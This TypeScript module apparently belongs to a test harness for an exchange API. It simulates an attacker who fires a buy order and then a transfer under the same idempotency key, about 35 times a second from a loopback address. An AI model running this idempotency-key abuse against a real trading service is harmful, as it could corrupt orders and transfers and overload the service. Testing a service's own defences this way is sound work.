import { randomUUID } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import { API_PATH, IDEMPOTENCY_HEADER, TOKEN_HEADER } from '@ex/contract';
import { HttpLoad } from './http';
import type { SpotMarket } from './spot';

/** Where the attacker's connections come from; the members of a load are elsewhere. */
const ADDRESS = '127.200.0.1';
/** Time from an order to the transfer under its key (ms). */
const APART_MS = 8;
/** 35 requests a second. */
const PAIRS_PER_SECOND = 17.5;

/**
 * Sends an order and, 8 ms later, a transfer under the same idempotency key, again and again, without waiting for answers. Returns
 * what ends it.
 */
export function attackWithKeys(
  base: string,
  token: string,
  coin: number,
  market: SpotMarket,
): () => Promise<void> {
  const http = new HttpLoad(base, 500, ADDRESS);
  let isOver = false;
  const send = (name: string, form: Readonly<Record<string, string>>, key: string) =>
    http
      .exchange({
        method: 'POST',
        path: `${API_PATH}/${name}`,
        headers: { [TOKEN_HEADER]: token, [IDEMPOTENCY_HEADER]: key },
        body: new URLSearchParams(form).toString(),
      })
      .catch(() => undefined);
  const { id, num, amount, lowPrice: price } = market;
  const order = { m_id: String(id), num, amount, price, operate_type: '1', type: '1' };
  const moved = { c_id: String(coin), num: '0.01', from_type: '1', to_type: '2' };
  const run = async (): Promise<void> => {
    while (!isOver) {
      const key = randomUUID();
      void send('upbbbuy', order, key);
      await pause(APART_MS);
      void send('transfer', moved, key);
      await pause(1_000 / PAIRS_PER_SECOND - APART_MS);
    }
  };
  const running = run();
  return async () => {
    isOver = true;
    await running;
    http.close();
  };
}
